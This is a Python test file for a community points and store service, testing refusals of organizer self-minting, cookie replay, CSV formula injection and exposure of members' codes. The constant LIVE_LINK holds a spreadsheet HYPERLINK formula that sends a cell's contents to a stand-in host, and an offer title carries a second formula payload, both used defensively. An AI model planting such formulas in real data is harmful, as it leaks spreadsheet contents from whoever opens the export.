"""Integrity attacks over HTTP: self-minted activities, copied scan cookies, formula names in CSVs,
staff reading members' codes. Each asserts the refusal and that nothing changed."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from typing import Any
from zoneinfo import ZoneInfo

from service import clock
from tests.support.activities import checked_in_count as count
from tests.support.activities import create_activity as create
from tests.support.activities import freeze_at_step_start
from tests.support.balances import api_available as balance
from tests.support.balances import fund
from tests.support.proposals import api_applied
from tests.support.store import claim_voucher as claim
from tests.support.store import make_offer, make_product
from tests.support.world import World, add_person

LIVE_LINK = '=HYPERLINK("http://x.example/?"&B2,"点")'


async def _kiosk_token(client: Any, world: World, aid: str) -> str:
    r = await client.get(f"/api/v1/activities/{aid}/kiosk", headers=world.h["organizer"])
    return str(r.json()["token"])


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


async def test_organizer_cannot_mint_50000_points_at_his_own_kiosk(client: Any, world: World) -> None:
    a = await create(client, world, points=50_000)
    assert a["status"] == "pending_approval"
    token = await _kiosk_token(client, world, a["id"])
    r = await client.post("/api/v1/checkins", json={"token": token}, headers=world.h["organizer"])
    assert r.status_code == 400 and r.json()["code"] == "activity_not_open"
    assert await count(client, world, a["id"]) == 0 and await balance(client, world, "organizer") == 0
    mine = await client.post(f"/api/v1/activities/{a['id']}/approve", headers=world.h["organizer"])
    assert mine.status_code == 403 and mine.json()["code"] == "forbidden"
    ok = await client.post(f"/api/v1/activities/{a['id']}/approve", headers=world.h["admin"])
    assert ok.status_code == 200 and ok.json()["status"] == "open"
    policy = await client.put(
        f"/api/v1/communities/{world.cid}/activity-policy",
        json={"points_cap": 80},
        headers=world.h["organizer"],
    )
    assert policy.status_code == 403
    policy = await client.put(
        f"/api/v1/communities/{world.cid}/activity-policy", json={"points_cap": 80}, headers=world.h["admin"]
    )
    # A higher cap widens what one organizer can pay: it waits for another admin.
    assert policy.status_code == 202 and policy.json()["proposal"]["after"] == {"points_cap": 80}
    shown = await client.get(f"/api/v1/communities/{world.cid}/activity-policy", headers=world.h["alice"])
    assert shown.json()["points_cap"] == 50
    await api_applied(client, world, policy)
    shown = await client.get(f"/api/v1/communities/{world.cid}/activity-policy", headers=world.h["alice"])
    assert shown.json()["points_cap"] == 80


async def test_organizer_checking_in_himself_waits_for_a_second_organizer(client: Any, world: World) -> None:
    a = await create(client, world)
    token = await _kiosk_token(client, world, a["id"])
    r = await client.post("/api/v1/checkins", json={"token": token}, headers=world.h["organizer"])
    assert r.status_code == 200
    assert (r.json()["points_awarded"], r.json()["points_status"]) == (0, "awaiting_confirmation")
    closed = await client.post(f"/api/v1/activities/{a['id']}/close", headers=world.h["organizer"])
    assert closed.json()["awaiting_confirmation"] == 1 and closed.json()["points_posted"] == 0
    att = (await client.get(f"/api/v1/activities/{a['id']}/attendance", headers=world.h["organizer"])).json()
    (row,) = att["items"]
    assert row["status"] == "pending" and "self_attendance" in row["flags"]
    own = await client.post(f"/api/v1/attendance/{row['id']}/approve", headers=world.h["organizer"])
    assert own.status_code == 403 and own.json()["code"] == "approver_conflict"
    assert await balance(client, world, "organizer") == 0
    ok = await client.post(f"/api/v1/attendance/{row['id']}/approve", headers=world.h["organizer2"])
    assert ok.status_code == 200 and ok.json()["points"] == 8
    assert await balance(client, world, "organizer") == 8


async def test_close_with_absent_people_over_http_and_on_the_page(client: Any, world: World) -> None:
    a = await create(client, world)
    token = await _kiosk_token(client, world, a["id"])
    for name in ("alice", "bob"):
        assert (
            await client.post("/api/v1/checkins", json={"token": token}, headers=world.h[name])
        ).status_code == 200
    page = await client.get(f"/activities/{a['id']}", headers=world.h["organizer"])
    bob_id = str(world.members["bob"].id)
    assert 'data-testid="close-form"' in page.text and f'value="{bob_id}"' in page.text
    bad = await client.post(
        f"/api/v1/activities/{a['id']}/close",
        json={"absent_member_ids": [str(world.members["carol"].id)]},
        headers=world.h["organizer"],
    )
    assert bad.status_code == 422 and bad.json()["code"] == "not_checked_in"
    assert await balance(client, world, "alice") == 0
    r = await client.post(
        f"/api/v1/activities/{a['id']}/close",
        json={"absent_member_ids": [bob_id]},
        headers=world.h["organizer"],
    )
    assert r.status_code == 200
    assert (r.json()["checked_out"], r.json()["absent"], r.json()["points_posted"]) == (1, 1, 8)
    assert await balance(client, world, "alice") == 8 and await balance(client, world, "bob") == 0


async def _scan_logged_out(client: Any, token: str) -> tuple[str, str]:
    """A fresh phone (an empty cookie jar) opens the check-in URL before logging in."""
    client.cookies.clear()
    r = await client.get(f"/c/{token}", follow_redirects=False)
    assert r.status_code == 303
    scan, device = client.cookies.get("jifen_scan"), client.cookies.get("jifen_device")
    assert scan and device
    return scan, device


def _another_browser(client: Any, cookies: dict[str, str]) -> None:
    client.cookies.clear()
    for name, value in cookies.items():
        client.cookies.set(name, value)


async def test_a_copied_scan_cookie_checks_nobody_else_in(client: Any, world: World) -> None:
    freeze_at_step_start()
    a = await create(client, world)
    token = await _kiosk_token(client, world, a["id"])
    scan, device = await _scan_logged_out(client, token)
    clock.advance(timedelta(minutes=3))  # the kiosk code expired while alice logged in
    page = await client.get(f"/c/{token}", headers=world.h["alice"])
    assert page.status_code == 200 and 'data-status="checked_in"' in page.text
    assert not client.cookies.get("jifen_scan")  # spent and removed
    # The attack: copy both cookies to another browser after the first use.
    _another_browser(client, {"jifen_scan": scan, "jifen_device": device})
    r = await client.post("/api/v1/checkins", json={"token": token}, headers=world.h["bob"])
    assert r.status_code == 400 and r.json()["code"] == "qr_expired"
    page = await client.get(f"/c/{token}", headers=world.h["carol"])
    assert page.status_code == 400 and 'data-code="qr_expired"' in page.text
    assert await count(client, world, a["id"]) == 1
    assert await balance(client, world, "bob") == 0 and await balance(client, world, "carol") == 0


async def test_a_scan_cookie_from_another_device_is_refused(client: Any, world: World) -> None:
    freeze_at_step_start()
    a = await create(client, world)
    token = await _kiosk_token(client, world, a["id"])
    scan, _device = await _scan_logged_out(client, token)
    clock.advance(timedelta(minutes=3))
    _another_browser(client, {"jifen_scan": scan, "jifen_device": "D" * 32})  # its own device cookie
    r = await client.post("/api/v1/checkins", json={"token": token}, headers=world.h["bob"])
    assert r.status_code == 400 and r.json()["code"] == "qr_expired"
    assert await count(client, world, a["id"]) == 0 and await balance(client, world, "bob") == 0


async def test_formula_names_are_neutralised_in_every_csv(client: Any, world: World, maker: Any) -> None:
    async with maker() as db:
        await add_person(db, world, LIVE_LINK, "13900000099", "member")
        await db.commit()
    a = await create(client, world)
    token = await _kiosk_token(client, world, a["id"])
    assert (
        await client.post("/api/v1/checkins", json={"token": token}, headers=world.h[LIVE_LINK])
    ).status_code == 200
    r = await client.get(f"/api/v1/activities/{a['id']}/attendance?format=csv", headers=world.h["organizer"])
    assert r.content.startswith(b"\xef\xbb\xbf")
    rows = _csv_rows(r.content)
    assert rows[0][0] == "Name" and rows[1][0] == "'" + LIVE_LINK
    zh = await client.get(
        f"/api/v1/activities/{a['id']}/attendance?format=csv",
        headers={**world.h["organizer"], "Accept-Language": "zh-CN"},
    )
    assert _csv_rows(zh.content)[0][:2] == ["姓名", "手机号"]
    local = clock.now().astimezone(ZoneInfo(world.community.timezone)).strftime("%Y-%m-%d %H:%M")
    assert rows[1][4] == local  # the community's time zone
    # Settlement: the member redeems a voucher of an offer whose title is a formula too.
    await fund(maker, world, LIVE_LINK, 500)
    offer = await make_offer(client, world, title="@SUM(1+1)*cmd")
    code = (await claim(client, world, offer, who=LIVE_LINK)).json()["code"]
    r = await client.post("/api/v1/vouchers/redeem", json={"code": code}, headers=world.h["partner"])
    assert r.status_code == 200
    month = clock.now().astimezone(ZoneInfo(world.community.timezone)).strftime("%Y-%m")
    st = await client.get(
        f"/api/v1/partners/{world.partner.id}/settlement?month={month}&format=csv", headers=world.h["admin"]
    )
    rows = _csv_rows(st.content)
    assert rows[1][2] == "'@SUM(1+1)*cmd" and rows[1][4].startswith("'=")
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


async def test_staff_lists_show_codes_masked(client: Any, world: World, maker: Any) -> None:
    await fund(maker, world, "alice", 1000)
    product = await make_product(client, world)
    order = (
        await client.post("/api/v1/orders", json={"product_id": product["id"]}, headers=world.h["alice"])
    ).json()
    code = order["pickup_code"]
    listed = await client.get(f"/api/v1/communities/{world.cid}/orders", headers=world.h["clerk"])
    (item,) = listed.json()["items"]
    assert item["pickup_code"] == "******" + code[-2:] and code not in listed.text
    one = await client.get(f"/api/v1/orders/{order['id']}", headers=world.h["clerk"])
    assert one.json()["pickup_code"] == "******" + code[-2:] and code not in one.text
    qr = await client.get(f"/api/v1/orders/{order['id']}/qr.png", headers=world.h["clerk"])
    assert qr.status_code == 404
    counter = await client.get(f"/store/counter?community={world.cid}", headers=world.h["clerk"])
    assert counter.status_code == 200 and code not in counter.text and "******" + code[-2:] in counter.text
    mine = await client.get(f"/api/v1/me/orders?community_id={world.cid}", headers=world.h["alice"])
    assert mine.json()["items"][0]["pickup_code"] == code  # the member still sees the whole code
    # A hand-out still works with the code the member shows.
    r = await client.post("/api/v1/orders/pickup", json={"pickup_code": code}, headers=world.h["clerk"])
    assert r.status_code == 200 and r.json()["status"] == "fulfilled"

    offer = await make_offer(client, world)
    voucher = (await claim(client, world, offer)).json()
    vouchers = await client.get(f"/api/v1/partners/{world.partner.id}/vouchers", headers=world.h["partner"])
    assert vouchers.json()["items"][0]["code"] == "******" + voucher["code"][-2:]
    assert voucher["code"] not in vouchers.text
    shop = await client.get(f"/partner?partner={world.partner.id}", headers=world.h["partner"])
    assert shop.status_code == 200 and voucher["code"] not in shop.text
    assert "******" + voucher["code"][-2:] in shop.text
    qr = await client.get(f"/api/v1/vouchers/{voucher['id']}/qr.png", headers=world.h["partner"])
    assert qr.status_code == 404
    own = await client.get(f"/api/v1/vouchers/{voucher['id']}/qr.png", headers=world.h["alice"])
    assert own.status_code == 200
    r = await client.post(
        "/api/v1/vouchers/redeem", json={"code": voucher["code"]}, headers=world.h["partner"]
    )
    assert r.status_code == 200
